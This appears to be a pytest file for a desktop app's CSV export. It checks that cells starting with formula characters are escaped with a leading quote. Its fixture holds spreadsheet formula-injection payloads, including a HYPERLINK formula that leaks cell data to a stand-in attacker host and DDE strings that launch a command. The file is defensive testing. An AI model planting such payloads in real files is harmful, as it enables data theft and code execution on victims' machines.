"""Error reports → Export CSV: cells a spreadsheet would run as formulas are text."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
from pytestqt.qtbot import QtBot

from gui.models.csv_safe import safe_cell
from gui.views.errors_view import ErrorsView
from service.store import NewErrorReport, Store

HOSTILE = {
    "code": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "description": "=cmd|' /C calc'!A0",
    "subject": "@SUM(1+1)*cmd|' /C calc'!A0",
    "object_id": "+1-555-0100",
    "raw_request": "-2+3",
    "raw_response": "\t=1+1",
    "local_batch_id": "\r=1+1",
}


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store(tmp_path / "profile.sqlite3") as opened:
        yield opened


def test_export_prefixes_formula_cells_with_a_quote(
    qtbot: QtBot, store: Store, tmp_path: Path
) -> None:
    store.add_error_report(NewErrorReport(flow="fetch-orders", content_type="order", **HOSTILE))
    store.add_error_report(
        NewErrorReport(code="lb-1-CreateOrder_ORD-7", description="city not found", flow="x")
    )
    view = ErrorsView(store)
    qtbot.addWidget(view)
    qtbot.waitUntil(lambda: not view.model.is_loading and view.model.rowCount() == 2)
    target = tmp_path / "reports.csv"

    with qtbot.waitSignal(view.export_finished, timeout=5000) as finished:
        view.export_to(target)

    assert finished.args == [str(target), 2]
    with open(target, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    hostile = next(row for row in rows if row["description"].startswith("'"))
    for field, value in HOSTILE.items():
        assert hostile[field] == "'" + value, field
    plain = next(row for row in rows if row is not hostile)
    assert plain["code"] == "lb-1-CreateOrder_ORD-7"
    assert plain["description"] == "city not found"
    assert plain["id"].isdigit()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (-1, -1),
        (None, None),
    ],
)
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected
